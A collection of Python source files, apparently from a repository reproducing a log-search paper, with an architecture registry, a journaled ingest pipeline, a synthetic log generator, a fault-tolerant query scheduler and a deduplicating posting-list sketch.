def register(arch: ArchDef) -> ArchDef:
    assert arch.arch_id not in _REGISTRY, f"duplicate arch {arch.arch_id}"
    _REGISTRY[arch.arch_id] = arch
    return arch


def get_arch(arch_id: str) -> ArchDef:
    _ensure_loaded()
    return _REGISTRY[arch_id]


def list_archs() -> list[str]:
    _ensure_loaded()
    return sorted(_REGISTRY)


def all_cells() -> list[tuple[str, str]]:
    """All 40 (arch, shape) dry-run cells."""
    _ensure_loaded()
    return [(a, s.name) for a in list_archs() for s in _REGISTRY[a].shapes]


def _ensure_loaded() -> None:
    if _REGISTRY:
        return
    from . import (  # noqa: F401
        arctic_480b,
        gemma2_9b,
        llama3_8b,
        meshgraphnet,
        mind,
        olmo_1b,
        phi35_moe,
        sasrec,
        two_tower,
        xdeepfm,
    )


# --- common LM shape set (assigned to all five LM archs) -----------------------

LM_SHAPES = (
    ShapeCell("train_4k", "train", {"seq_len": 4096, "global_batch": 256}),
    ShapeCell("prefill_32k", "prefill", {"seq_len": 32768, "global_batch": 32}),
    ShapeCell("decode_32k", "decode", {"seq_len": 32768, "global_batch": 128}),
    ShapeCell(
        "long_500k",
        "decode",
        {"seq_len": 524288, "global_batch": 1},
        # batch=1: the data axis instead shards the KV sequence (flash-decoding)
        rules_override={"kv_seq": ("data", "pipe"), "batch": None},
        notes="O(S) decode step against a 512k KV cache; see DESIGN.md long_500k note",
    ),
)


def lm_shapes(num_microbatches_train: int = 1) -> tuple[ShapeCell, ...]:
    out = []
    for s in LM_SHAPES:
        if s.name == "train_4k":
            out.append(replace(s, num_microbatches=num_microbatches_train))
        else:
            out.append(s)
    return tuple(out)
