"""Ingest pipeline (paper Fig. 1): event log → partition → segments.

Note: the store-level durable lifecycle (``Store.open/flush/close`` over a
WAL + manifest directory, docs/persistence.md) has superseded this module as
the persistence substrate — ``repro.launch.ingest`` now drives a persistent
:class:`~repro.logstore.ShardedCoprStore` directly.  This pipeline remains
the Fig.-1 *distributed* shape (per-shard segment stores over a shared event
log) used by ``examples/log_search_service.py``.

Fault-tolerance substrate:

* **Event log** — an append-only journal on disk (length-prefixed records,
  fsync'd per commit window).  Mutable segments hold no durability; on crash
  the journal replays from the last sealed-segment watermark, reproducing the
  exact same segments (deterministic partitioner + batcher), which is the
  paper's recovery story ("event logs can be re-consumed in case of errors").
* **Partitioner** — attribute-hash partitioning of the stream (source id by
  default) onto N ingest shards; each shard owns its own sequence of segments.
* **Segmenter** — builds a ``CoprStore`` per open segment; seals after
  ``lines_per_segment`` lines; sealed segments are immutable (the distributed
  store would replicate them — here: directory of files + manifest).
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from pathlib import Path

from ..core.hashing import fingerprint32
from ..logstore.store import CoprStore

#: deprecation shims warn once per process (see docs/invariants.md, R5)
_WARNED: set[str] = set()


class EventLog:
    """Append-only, crash-recoverable journal of JSON records.

    Thin adapter over the store layer's CRC-protected
    :class:`~repro.logstore.persist.WriteAheadLog` (one journal
    implementation, one torn-tail story) that adds what Fig. 1 needs:
    record offsets for the sealed-segment watermark and ``__len__``.
    """

    def __init__(self, path: str | Path) -> None:
        from ..logstore.persist import WriteAheadLog

        self.path = Path(path)
        # no autosync — the pipeline fsyncs explicitly at seal points
        self._wal = WriteAheadLog(self.path, sync_interval=1 << 62)
        self._count = sum(
            len(rec["b"]) if "b" in rec else 1 for rec in self._wal.replay_records()
        )
        # cut any torn tail before appending: new records written behind
        # surviving garbage would be invisible to every future replay
        self._wal.trim_torn_tail()

    def append(self, record: dict) -> int:
        self._wal.append_record(record)
        self._count += 1
        return self._count - 1

    def append_batch(self, records: list[dict]) -> int:
        """Group-commit: journal a batch as CRC-framed multi-record frames
        (``{"b": [record, ...]}``), one CRC per frame instead of one per
        record.  A single record stays in the legacy one-record format so
        mixed logs replay under either reader.  Returns the offset of the
        first appended record."""
        first = self._count
        if len(records) == 1:
            self.append(records[0])
            return first
        from ..logstore.persist import _FRAME_MAX_RECORDS

        for i in range(0, len(records), _FRAME_MAX_RECORDS):
            chunk = records[i : i + _FRAME_MAX_RECORDS]
            self._wal.append_record({"b": chunk})
            self._count += len(chunk)
        return first

    def sync(self) -> None:
        self._wal.sync()

    def replay(self, from_offset: int = 0):
        """Yield (offset, record) from the journal, skipping torn tails.
        Frames (``{"b": [...]}``) expand to their member records — offsets
        count *logical* records, so watermarks are frame-agnostic."""
        off = 0
        for raw in self._wal.replay_records():
            for record in raw["b"] if "b" in raw else (raw,):
                if off >= from_offset:
                    yield off, record
                off += 1

    def __len__(self) -> int:
        return self._count

    def close(self) -> None:
        self._wal.close()


@dataclass
class SegmentManifestEntry:
    segment_id: int
    shard: int
    n_lines: int
    path: str


class IngestPipeline:
    """Partitioned, journaled, segment-building ingest (Fig. 1)."""

    def __init__(
        self,
        root: str | Path,
        *,
        n_shards: int = 4,
        lines_per_segment: int = 8192,
        lines_per_batch: int = 128,
        max_batches: int = 4096,
        journal: bool = True,
    ) -> None:
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)
        self.n_shards = n_shards
        self.lines_per_segment = lines_per_segment
        self.lines_per_batch = lines_per_batch
        self.max_batches = max_batches
        self.journal = EventLog(self.root / "events.log") if journal else None
        self.open_segments: dict[int, CoprStore] = {}
        self.open_counts: dict[int, int] = {}
        self.manifest: list[SegmentManifestEntry] = []
        self._sealed_stores: dict[int, CoprStore] = {}
        self._next_segment_id = 0
        self._watermark = 0  # journal offset fully contained in sealed segments
        self._load_manifest()
        # journal records routed into segments so far (group-committed batches
        # journal ahead of routing, so ``len(self.journal)`` over-counts at
        # seal points; the watermark must only cover ROUTED records)
        self._routed = self._watermark

    # -- manifest / recovery ------------------------------------------------------

    def _manifest_path(self) -> Path:
        return self.root / "manifest.json"

    def _load_manifest(self) -> None:
        p = self._manifest_path()
        if p.exists():
            data = json.loads(p.read_text())
            self.manifest = [SegmentManifestEntry(**e) for e in data["segments"]]
            self._next_segment_id = data["next_segment_id"]
            self._watermark = data["watermark"]

    def _save_manifest(self) -> None:
        tmp = self._manifest_path().with_suffix(".tmp")
        tmp.write_text(
            json.dumps(
                {
                    "segments": [e.__dict__ for e in self.manifest],
                    "next_segment_id": self._next_segment_id,
                    "watermark": self._watermark,
                }
            )
        )
        os.replace(tmp, self._manifest_path())  # atomic publish

    def recover(self) -> int:
        """Replay journal records past the sealed watermark. Returns #replayed."""
        if self.journal is None:
            return 0
        lines: list[str] = []
        sources: list[str] = []
        for _off, rec in self.journal.replay(self._watermark):
            lines.append(rec["line"])
            sources.append(rec.get("source", ""))
        if lines:
            self._route_many(lines, sources)
        return len(lines)

    # -- ingest ----------------------------------------------------------------------

    def shard_of(self, source: str) -> int:
        return fingerprint32(source) % self.n_shards

    def ingest(self, line: str, source: str = "") -> None:
        self.ingest_many([line], [source])

    def ingest_many(self, lines: list[str], sources: "list[str] | str" = "") -> None:
        """Batched ingest: one group-committed journal frame, then stream-order
        routing through the shards' vectorized ``ingest_many`` paths.  Seal
        points land on exactly the same lines as looped :meth:`ingest` —
        same-shard runs are split at segment-capacity boundaries."""
        if isinstance(sources, str):
            sources = [sources] * len(lines)
        if len(sources) != len(lines):
            raise ValueError(f"{len(lines)} lines but {len(sources)} sources")
        if not lines:
            return
        if self.journal is not None:
            self.journal.append_batch(
                [{"line": ln, "source": s} for ln, s in zip(lines, sources)]
            )
        self._route_many(lines, sources)

    def _route_many(self, lines: list[str], sources: list[str]) -> None:
        shard_cache: dict[str, int] = {}
        n = len(lines)
        i = 0
        while i < n:
            src = sources[i]
            shard = shard_cache.get(src)
            if shard is None:
                shard = shard_cache[src] = self.shard_of(src)
            # extend the run while consecutive lines route to the same shard
            j = i + 1
            while j < n:
                nxt = sources[j]
                s2 = shard_cache.get(nxt)
                if s2 is None:
                    s2 = shard_cache[nxt] = self.shard_of(nxt)
                if s2 != shard:
                    break
                j += 1
            # feed the run in chunks capped at the shard's remaining capacity
            k = i
            while k < j:
                store = self.open_segments.get(shard)
                if store is None:
                    store = CoprStore(
                        lines_per_batch=self.lines_per_batch, max_batches=self.max_batches
                    )
                    self.open_segments[shard] = store
                    self.open_counts[shard] = 0
                take = min(self.lines_per_segment - self.open_counts[shard], j - k)
                store.ingest_many(lines[k : k + take], sources[k : k + take])
                self.open_counts[shard] += take
                self._routed += take
                k += take
                if self.open_counts[shard] >= self.lines_per_segment:
                    self.seal_shard(shard)
            i = j

    def seal_shard(self, shard: int) -> SegmentManifestEntry | None:
        store = self.open_segments.pop(shard, None)
        if store is None:
            return None
        n = self.open_counts.pop(shard)
        store.finish()
        seg_id = self._next_segment_id
        self._next_segment_id += 1
        path = self.root / f"segment-{seg_id:06d}.copr"
        path.write_bytes(store._sealed)
        entry = SegmentManifestEntry(segment_id=seg_id, shard=shard, n_lines=n, path=str(path))
        self.manifest.append(entry)
        if self.journal is not None:
            self.journal.sync()
            self._watermark = self._routed - sum(self.open_counts.values())
        self._save_manifest()
        # keep the sealed store for querying in-process
        self._sealed_stores[seg_id] = store
        return entry

    def seal_all(self) -> None:
        for shard in list(self.open_segments):
            self.seal_shard(shard)

    # -- query ---------------------------------------------------------------------

    def search_lines(self, query) -> list[str]:
        """Evaluate a boolean :class:`~repro.core.querylang.Query` (or bare
        substring) across every sealed + open segment store, merging matched
        lines (named ``search_lines``, not ``search``: stores return a
        :class:`~repro.core.querylang.SearchResult`, the pipeline a flat
        line list)."""
        out: list[str] = []
        for store in self._sealed_stores.values():
            out.extend(store.search(query).lines)
        for store in self.open_segments.values():
            out.extend(store.search(query).lines)
        return out

    def query_contains(self, term: str) -> list[str]:
        """Deprecated: use ``search_lines(Contains(term))``."""
        import warnings

        from ..core.querylang import Contains

        if "query_contains" not in _WARNED:
            _WARNED.add("query_contains")
            warnings.warn(
                "IngestPipeline.query_contains is deprecated; use search_lines()",
                DeprecationWarning,
                stacklevel=2,
            )
        return self.search_lines(Contains(term))
