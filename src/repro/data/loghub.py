"""Synthetic log-data generator (paper §5, Table 2).

The paper cannot release its production data; instead it ships a generator
that reproduces the *statistical shape*: LogHub-style static templates per
source, a heavy-tailed (Zipf) distribution of lines per source, and realistic
variable parts (IPs, 16-letter ids, numbers, paths, latencies).  This module
is that generator: deterministic under a seed, configurable line/source
counts, and it exports the query-term samplers the benchmarks need
(random IDs, partial IPs, extracted terms).
"""

from __future__ import annotations

import string
from dataclasses import dataclass

import numpy as np

# Template fragments modeled on LogHub (HDFS/Spark/SSH/Proxifier corpora).
_TEMPLATES = [
    "INFO: Connection to host {ip} established",
    "INFO: Start processing request {rid} for user {uid}",
    "ERROR: Host {ip} connection terminated after {num} retries",
    "INFO: Restart triggered by watchdog pid={num}",
    "WARN: Slow query {rid} took {num}ms on shard {num2}",
    "INFO: PacketResponder {num} for block blk_{num2} terminating",
    "INFO: Received block blk_{num2} of size {num} from {ip}",
    "ERROR: Failed to authenticate user {uid} from {ip} port {num}",
    "INFO: session opened for user {uid} by (uid={num2})",
    "DEBUG: cache miss for key {rid} latency {num}us",
    "INFO: Executor updated: app-{num}-{num2} is now RUNNING",
    "WARN: Disk usage {num}% exceeds threshold on /dev/sd{letter}",
    "INFO: Scheduled snapshot {rid} at offset {num}",
    "ERROR: Timeout waiting for lock {rid} held by pid {num}",
    "INFO: GET /api/v{num2}/items/{rid} {num}ms 200",
    "INFO: sshd[{num}]: Connection closed by {ip}",
    "WARN: retrying rpc {rid} attempt {num2} of 5",
    "INFO: compaction of level {num2} finished in {num}ms",
    "DEBUG: enqueue offset={num} partition={num2} topic=events-{letter}",
    "ERROR: java.io.IOException: Broken pipe at stream {rid}",
]

_LETTERS = np.array(list(string.ascii_lowercase))


@dataclass
class GeneratedDataset:
    lines: list[str]
    sources: list[str]
    name: str

    @property
    def raw_bytes(self) -> int:
        return sum(len(x) + 1 for x in self.lines)


class LogGenerator:
    def __init__(self, seed: int = 0) -> None:
        self.rng = np.random.default_rng(seed)

    # -- pieces ------------------------------------------------------------------

    def _ip(self) -> str:
        a, b, c, d = self.rng.integers(1, 255, size=4)
        return f"{a}.{b}.{c}.{d}"

    def _rid(self) -> str:
        return "".join(_LETTERS[self.rng.integers(0, 26, size=12)])

    def _uid(self) -> str:
        return "".join(_LETTERS[self.rng.integers(0, 26, size=8)])

    def _fill(self, tpl: str) -> str:
        out = tpl
        while "{" in out:
            out = out.replace("{ip}", self._ip(), 1)
            out = out.replace("{rid}", self._rid(), 1)
            out = out.replace("{uid}", self._uid(), 1)
            out = out.replace("{num}", str(int(self.rng.integers(0, 100000))), 1)
            out = out.replace("{num2}", str(int(self.rng.integers(0, 64))), 1)
            out = out.replace("{letter}", str(_LETTERS[self.rng.integers(0, 26)]), 1)
        return out

    # -- dataset ------------------------------------------------------------------

    def generate(
        self,
        n_lines: int,
        n_sources: int = 64,
        zipf_a: float = 1.4,
        name: str = "generated",
    ) -> GeneratedDataset:
        """Zipf lines-per-source, per-source template subset (production shape)."""
        rng = self.rng
        # heavy-tailed source popularity
        weights = 1.0 / np.arange(1, n_sources + 1) ** zipf_a
        weights /= weights.sum()
        src_of_line = rng.choice(n_sources, size=n_lines, p=weights)
        src_of_line.sort()  # streams arrive roughly grouped per source
        # each source logs from a subset of templates (services differ)
        tpl_subsets = [
            rng.choice(len(_TEMPLATES), size=int(rng.integers(3, 9)), replace=False)
            for _ in range(n_sources)
        ]
        lines: list[str] = []
        sources: list[str] = []
        for s in src_of_line:
            tpl = _TEMPLATES[int(rng.choice(tpl_subsets[s]))]
            lines.append(self._fill(tpl))
            sources.append(f"src-{s:05d}")
        # shuffle within a window to emulate interleaved arrival
        order = np.arange(n_lines)
        w = 256
        for i in range(0, n_lines, w):
            seg = order[i : i + w]
            rng.shuffle(seg)
        return GeneratedDataset(
            lines=[lines[i] for i in order],
            sources=[sources[i] for i in order],
            name=name,
        )

    # -- query-term samplers (§5.2 scenarios) ---------------------------------------

    def random_id_terms(self, n: int) -> list[str]:
        """term(ID)/contains(ID): random 16-letter needles (absent)."""
        return [
            "".join(_LETTERS[self.rng.integers(0, 26, size=16)]) for _ in range(n)
        ]

    def random_partial_ips(self, n: int) -> list[str]:
        """term(IP)/contains(IP): random partial IPs like '192.130.100'."""
        out = []
        for _ in range(n):
            a, b, c = self.rng.integers(1, 255, size=3)
            out.append(f"{a}.{b}.{c}")
        return out

    def extracted_terms(self, dataset: GeneratedDataset, n: int) -> list[str]:
        """term(extracted): terms sampled from the data itself."""
        from ..logstore.tokenizer import tokenize_line

        out: list[str] = []
        idx = self.rng.integers(0, len(dataset.lines), size=4 * n)
        for i in idx:
            toks = [t for t in tokenize_line(dataset.lines[int(i)], ngrams=False) if len(t) >= 4]
            if toks:
                out.append(str(toks[int(self.rng.integers(0, len(toks)))]))
            if len(out) >= n:
                break
        return out[:n]

    def structured_queries(self, dataset: GeneratedDataset, n: int) -> list:
        """Mixed boolean-AST workload: AND/OR/NOT/Source shapes over the
        dataset's vocabulary (common words, absent ids, extracted terms,
        real sources).  Shared by ``benchmarks/bench_queries.py`` and the
        ``repro.launch.serve --logs`` demo so the two never drift."""
        from ..core.querylang import And, Contains, Not, Or, Source, Term

        ids = self.random_id_terms(max(8, n // 2))
        terms = self.extracted_terms(dataset, max(8, n // 2))
        sources = sorted(set(dataset.sources))
        words = ["error", "warn", "timeout", "connection", "block", "session", "user"]

        def pick(pool):
            return str(pool[int(self.rng.integers(0, len(pool)))])

        out = []
        for i in range(n):
            shape = i % 5
            if shape == 0:
                out.append(And(Contains(pick(words)), Contains(pick(words))))
            elif shape == 1:
                out.append(Or(Contains(pick(ids)), Term(pick(terms))))
            elif shape == 2:
                out.append(And(Contains(pick(words)), Not(Contains(pick(words)))))
            elif shape == 3:
                out.append(And(Contains(pick(words)), Source(pick(sources))))
            else:
                out.append(Or(And(Contains(pick(words)), Contains(pick(words))),
                              Contains(pick(ids))))
        return out


def make_dataset(kind: str, n_lines: int, seed: int = 0) -> GeneratedDataset:
    """Named datasets mirroring Table 2's scaled shapes."""
    gen = LogGenerator(seed)
    n_sources = {"small": 32, "1m": 323, "5m": 605}.get(kind, 64)
    return gen.generate(n_lines, n_sources=n_sources, name=f"{kind}_{n_lines}")
