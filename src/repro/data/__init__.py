"""Data substrate: synthetic log generation, journaled ingest pipeline."""

from .loghub import GeneratedDataset, LogGenerator, make_dataset
from .pipeline import EventLog, IngestPipeline

__all__ = ["GeneratedDataset", "LogGenerator", "make_dataset", "EventLog", "IngestPipeline"]
