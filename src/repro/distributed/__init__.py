"""Distributed runtime helpers: fault tolerance, work assignment."""

from .ft import QueryScheduler, assign_segments, rendezvous_weight

__all__ = ["QueryScheduler", "assign_segments", "rendezvous_weight"]
