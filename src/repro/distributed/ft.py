"""Fault tolerance for the distributed query/ingest plane.

Three host-level mechanisms (no device code — this layer schedules work onto
devices/workers):

* **Rendezvous assignment** — segments map to workers by highest-random-weight
  (rendezvous) hashing: adding/removing a worker only moves the segments that
  must move (elastic scaling, deterministic across all hosts with no
  coordinator).
* **Failure handling** — a worker missing heartbeats is dropped from the
  rendezvous set; its segments re-home automatically on the next assignment.
* **Straggler mitigation** — speculative re-execution: when a worker's
  in-flight work exceeds ``straggler_factor`` × median completion time, its
  remaining segments are duplicated onto the least-loaded healthy workers;
  first result wins (results are idempotent set-unions, so duplication is
  safe).
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

import numpy as np

from ..core.hashing import fingerprint32, splitmix64


def rendezvous_weight(segment_id: int, worker: str) -> int:
    h = np.uint64(fingerprint32(f"{worker}") & 0xFFFFFFFF) << np.uint64(32)
    return int(splitmix64(h | np.uint64(segment_id & 0xFFFFFFFF)))


def assign_segments(segment_ids, workers) -> dict[str, list[int]]:
    """Deterministic rendezvous assignment: seg → argmax_w weight(seg, w)."""
    out: dict[str, list[int]] = {w: [] for w in workers}
    if not workers:
        return out
    for s in segment_ids:
        best = max(workers, key=lambda w, s=s: rendezvous_weight(s, w))
        out[best].append(s)
    return out


@dataclass
class WorkerState:
    name: str
    last_heartbeat: float = 0.0
    inflight: dict[int, float] = field(default_factory=dict)  # seg -> start ts
    completed: list[float] = field(default_factory=list)  # durations


class QueryScheduler:
    """Tracks workers and schedules segment probes with FT + straggler copies."""

    def __init__(self, *, heartbeat_timeout: float = 5.0, straggler_factor: float = 3.0) -> None:
        self.workers: dict[str, WorkerState] = {}
        self.heartbeat_timeout = heartbeat_timeout
        self.straggler_factor = straggler_factor
        self.done: set[int] = set()
        self.results: dict[int, object] = {}

    # -- membership -------------------------------------------------------------

    def heartbeat(self, worker: str, now: float | None = None) -> None:
        now = time.monotonic() if now is None else now
        self.workers.setdefault(worker, WorkerState(worker)).last_heartbeat = now

    def healthy_workers(self, now: float | None = None) -> list[str]:
        now = time.monotonic() if now is None else now
        return [
            w.name
            for w in self.workers.values()
            if now - w.last_heartbeat <= self.heartbeat_timeout
        ]

    # -- scheduling ----------------------------------------------------------------

    def plan(self, segment_ids, now: float | None = None) -> dict[str, list[int]]:
        """(Re-)assign outstanding segments over currently-healthy workers."""
        pending = [s for s in segment_ids if s not in self.done]
        return assign_segments(pending, self.healthy_workers(now))

    def start(self, worker: str, segment: int, now: float | None = None) -> None:
        now = time.monotonic() if now is None else now
        self.workers[worker].inflight[segment] = now

    def complete(self, worker: str, segment: int, result, now: float | None = None) -> bool:
        """Record a result; returns False if this was a duplicate (loser)."""
        now = time.monotonic() if now is None else now
        st = self.workers.get(worker)
        if st is not None and segment in st.inflight:
            st.completed.append(now - st.inflight.pop(segment))
        if segment in self.done:
            return False
        self.done.add(segment)
        self.results[segment] = result
        # cancel speculative duplicates
        for w in self.workers.values():
            w.inflight.pop(segment, None)
        return True

    def straggler_segments(self, now: float | None = None) -> list[tuple[int, str]]:
        """Segments whose owner exceeds straggler_factor × median duration."""
        now = time.monotonic() if now is None else now
        durations = [d for w in self.workers.values() for d in w.completed]
        if not durations:
            return []
        median = float(np.median(durations))
        threshold = self.straggler_factor * max(median, 1e-6)
        out = []
        for w in self.workers.values():
            for seg, started in w.inflight.items():
                if seg not in self.done and now - started > threshold:
                    out.append((seg, w.name))
        return out

    def speculate(self, now: float | None = None) -> dict[str, list[int]]:
        """Duplicate straggler segments onto least-loaded healthy workers."""
        lagging = self.straggler_segments(now)
        healthy = self.healthy_workers(now)
        plan: dict[str, list[int]] = {}
        for seg, owner in lagging:
            candidates = [w for w in healthy if w != owner and seg not in self.workers[w].inflight]
            if not candidates:
                continue
            target = min(candidates, key=lambda w: len(self.workers[w].inflight))
            plan.setdefault(target, []).append(seg)
        return plan
