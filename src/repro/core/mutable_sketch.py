"""Mutable COPR/DynaWarp sketch (paper §3.2, §4.1).

Components:

* **token map** — fingerprint(u32) → tagged u32 value.  Tag in the two MSBs:
  ``DIRECT`` (single posting encoded inline — the Zipf fast path) or ``PTR``
  (posting-list id).  Python dict stands in for the fixed-size open-addressed
  table; ``estimated_bytes`` accounts for it at the paper's 4+4 bytes/entry.
* **posting lists** — short sorted u16 arrays below ``short_threshold``, dense
  bitsets above (both give effectively O(1)/O(log s) inserts, §4.1).
* **lookup map** — commutative postings-hash (LCG + XOR, Def. 3.1/3.2) →
  posting-list id, with Algorithm 1 insertion (linear probing on genuinely
  colliding hashes) and Algorithm 2 removal (backward shift so probes may stop
  at the first unoccupied hash).  Reference counts allow deallocation.

Posting ids must be < ``max_postings`` (paper bound: 2^16).
"""

from __future__ import annotations

from array import array
from bisect import bisect_left, insort
from dataclasses import dataclass
from typing import Iterator

import numpy as np

from .hashing import postings_hash, postings_hash_single, postings_hash_update

# token-map value tags (two most-significant bits of a u32 value, §4.1)
TAG_SHIFT = 30
TAG_DIRECT = 1 << TAG_SHIFT
TAG_PTR = 2 << TAG_SHIFT
VAL_MASK = (1 << TAG_SHIFT) - 1

_U64_MASK = (1 << 64) - 1


class PostingList:
    """A deduplicated posting set: sorted u16 array or dense bitset."""

    __slots__ = ("hash", "refcount", "count", "short", "bits")

    def __init__(self, hash_: int) -> None:
        self.hash = hash_  # commutative postings hash (u64)
        self.refcount = 1  # tokens referencing this list (4-byte field, §4.1)
        self.count = 0
        self.short: array | None = array("H")
        self.bits: np.ndarray | None = None

    def contains(self, p: int) -> bool:
        if self.short is not None:
            i = bisect_left(self.short, p)
            return i < len(self.short) and self.short[i] == p
        return bool((int(self.bits[p >> 6]) >> (p & 63)) & 1)

    def add(self, p: int, short_threshold: int, max_postings: int) -> None:
        """Insert p (caller guarantees p not present)."""
        if self.short is not None:
            if len(self.short) + 1 > short_threshold:
                bits = np.zeros((max_postings + 63) // 64, dtype=np.uint64)
                arr = np.asarray(self.short, dtype=np.int64)
                # use .at — plain fancy |= would drop same-word duplicates
                np.bitwise_or.at(bits, arr >> 6, np.uint64(1) << (arr.astype(np.uint64) & np.uint64(63)))
                self.bits = bits
                self.short = None
                self.bits[p >> 6] |= np.uint64(1 << (p & 63))
            else:
                insort(self.short, p)
        else:
            self.bits[p >> 6] |= np.uint64(1 << (p & 63))
        self.count += 1

    def postings(self) -> np.ndarray:
        if self.short is not None:
            return np.asarray(self.short, dtype=np.int64)
        # ascending bit positions, vectorized (little-endian words → unpackbits
        # with bitorder="little" preserves position order)
        bits = np.unpackbits(self.bits.view(np.uint8), bitorder="little")
        return np.nonzero(bits)[0].astype(np.int64)

    def equals(self, other: "PostingList") -> bool:
        if self.count != other.count:
            return False
        a, b = self.postings(), other.postings()
        return a.size == b.size and bool((a == b).all())

    def equals_postings(self, postings: np.ndarray) -> bool:
        mine = self.postings()
        return mine.size == postings.size and bool((mine == postings).all())

    @classmethod
    def from_sorted(
        cls, postings: np.ndarray, hash_: int, short_threshold: int, max_postings: int
    ) -> "PostingList":
        """Bulk-build from a sorted, distinct postings array — final state
        identical to ``add``-ing each element in order (the short→bitset
        conversion point only depends on the final size)."""
        pl = cls(hash_)
        n = len(postings)
        if n <= short_threshold:
            pl.short = array("H", postings.tolist())
        else:
            pl.short = None
            arr = np.asarray(postings, dtype=np.int64)
            bits = np.zeros((max_postings + 63) // 64, dtype=np.uint64)
            np.bitwise_or.at(
                bits, arr >> 6, np.uint64(1) << (arr.astype(np.uint64) & np.uint64(63))
            )
            pl.bits = bits
        pl.count = n
        return pl

    def copy(self) -> "PostingList":
        c = PostingList(self.hash)
        c.count = self.count
        if self.short is not None:
            c.short = array("H", self.short)
        else:
            c.short = None
            c.bits = self.bits.copy()
        return c

    def nbytes(self) -> int:
        base = 8 + 4 + 4  # hash + refcount + count
        if self.short is not None:
            return base + 2 * len(self.short)
        return base + self.bits.nbytes


@dataclass
class MutableSketchStats:
    tokens: int = 0
    lists: int = 0
    direct_tokens: int = 0
    dedup_hits: int = 0
    lookup_collisions: int = 0


class MutableSketch:
    """In-memory COPR sketch with online posting-list deduplication."""

    def __init__(self, *, max_postings: int = 4096, short_threshold: int = 16) -> None:
        assert max_postings <= 1 << 16, "paper bound: at most 2^16 postings"
        self.max_postings = max_postings
        self.short_threshold = short_threshold
        self.token_map: dict[int, int] = {}
        self.lists: dict[int, PostingList] = {}  # list id -> list
        self.lookup: dict[int, int] = {}  # probed postings-hash -> list id
        self._next_id = 0
        self._free_ids: list[int] = []
        # running sum of pl.nbytes() over self.lists — every mutation site
        # below keeps it exact so estimated_bytes() is O(1) instead of a walk
        # over all lists (the memory-check cadence makes that walk hot)
        self._lists_nbytes = 0
        self.stats = MutableSketchStats()

    # -- lookup map: Algorithm 1 / Algorithm 2 --------------------------------

    def _lookup_find(self, h: int, postings: np.ndarray) -> int | None:
        """Find id of an existing list with exactly ``postings`` (probe from h)."""
        while h in self.lookup:
            lid = self.lookup[h]
            if self.lists[lid].equals_postings(postings):
                return lid
            h = (h + 1) & _U64_MASK
            self.stats.lookup_collisions += 1
        return None

    def _lookup_insert(self, pl: PostingList, lid: int) -> None:
        """Algorithm 1: insert at the first unoccupied probed hash."""
        h = pl.hash
        while h in self.lookup:
            cand = self.lists[self.lookup[h]]
            if cand is pl:
                return  # already stored
            h = (h + 1) & _U64_MASK
            self.stats.lookup_collisions += 1
        self.lookup[h] = lid

    def _lookup_remove(self, pl: PostingList) -> None:
        """Algorithm 2: remove, then backward-shift displaced entries."""
        h = pl.hash
        target_id = None
        while h in self.lookup:
            lid = self.lookup[h]
            if self.lists.get(lid) is pl:
                target_id = lid
                del self.lookup[h]
                break
            h = (h + 1) & _U64_MASK
        if target_id is None:
            return  # not present (e.g., single-posting lists never stored)
        h_f = h
        h = (h + 1) & _U64_MASK
        while h in self.lookup:
            lid = self.lookup[h]
            h_c = self.lists[lid].hash
            # "needs to be moved" when its intended slot is at or before the
            # freed slot.  With wraparound, compare probe distances instead of
            # raw hashes: move iff the entry's intended hash is outside the
            # (h_f, h] probe window.
            dist_cur = (h - h_c) & _U64_MASK
            dist_free = (h_f - h_c) & _U64_MASK
            if dist_free <= dist_cur:
                del self.lookup[h]
                self.lookup[h_f] = lid
                h_f = h
            h = (h + 1) & _U64_MASK

    # -- list registry ---------------------------------------------------------

    def _new_list_id(self) -> int:
        if self._free_ids:
            return self._free_ids.pop()
        i = self._next_id
        self._next_id += 1
        return i

    def _decref(self, lid: int) -> None:
        pl = self.lists[lid]
        pl.refcount -= 1
        if pl.refcount == 0:
            self._lookup_remove(pl)
            self._lists_nbytes -= pl.nbytes()
            del self.lists[lid]
            self._free_ids.append(lid)

    # -- public ingest API -------------------------------------------------------

    def add(self, fp: int, posting: int) -> None:
        """Record that token fingerprint ``fp`` appears in set ``posting``."""
        assert 0 <= posting < self.max_postings
        tm = self.token_map
        v = tm.get(fp)
        if v is None:
            tm[fp] = TAG_DIRECT | posting
            return
        if v & TAG_DIRECT:
            p0 = v & VAL_MASK
            if p0 == posting:
                return
            self._attach_list(fp, np.asarray(sorted((p0, posting)), dtype=np.int64), old_lid=None)
            return
        lid = v & VAL_MASK
        pl = self.lists[lid]
        if pl.contains(posting):
            return
        new_hash = postings_hash_update(pl.hash, posting)
        # online dedup: someone may already own exactly this set.  Equal sets
        # have equal hashes, so a lookup-map miss on ``new_hash`` (the common
        # case) rules dedup out without materializing the postings array —
        # ``_lookup_find`` probes from exactly this slot.
        if new_hash in self.lookup:
            new_postings = np.sort(np.append(pl.postings(), posting))
            existing = self._lookup_find(new_hash, new_postings)
            if existing is not None:
                self.lists[existing].refcount += 1
                tm[fp] = TAG_PTR | existing
                self._decref(lid)
                self.stats.dedup_hits += 1
                return
        if pl.refcount == 1:
            # sole owner: extend in place (rehash position changes → reinsert)
            self._lookup_remove(pl)
            self._lists_nbytes -= pl.nbytes()
            pl.add(posting, self.short_threshold, self.max_postings)
            self._lists_nbytes += pl.nbytes()
            pl.hash = new_hash
            self._lookup_insert(pl, lid)
            return
        # shared: fork a copy, extend, register
        pl.refcount -= 1
        npl = pl.copy()
        npl.refcount = 1
        npl.hash = new_hash
        npl.add(posting, self.short_threshold, self.max_postings)
        nlid = self._new_list_id()
        self.lists[nlid] = npl
        self._lists_nbytes += npl.nbytes()
        self._lookup_insert(npl, nlid)
        tm[fp] = TAG_PTR | nlid

    def _attach_list(self, fp: int, postings: np.ndarray, old_lid: int | None) -> None:
        """Point token at a (possibly shared) list holding exactly ``postings``."""
        # hash({p0}) = lcg(p0); XOR-fold the rest (Definition 3.1)
        if len(postings) > 8:
            h = int(postings_hash(postings))
        else:
            h = postings_hash_single(int(postings[0]))
            for p in postings[1:]:
                h = postings_hash_update(h, int(p))
        existing = self._lookup_find(h, postings) if h in self.lookup else None
        if existing is not None:
            self.lists[existing].refcount += 1
            self.token_map[fp] = TAG_PTR | existing
            self.stats.dedup_hits += 1
        else:
            pl = PostingList.from_sorted(
                postings, h, self.short_threshold, self.max_postings
            )
            lid = self._new_list_id()
            self.lists[lid] = pl
            self._lists_nbytes += pl.nbytes()
            self._lookup_insert(pl, lid)
            self.token_map[fp] = TAG_PTR | lid
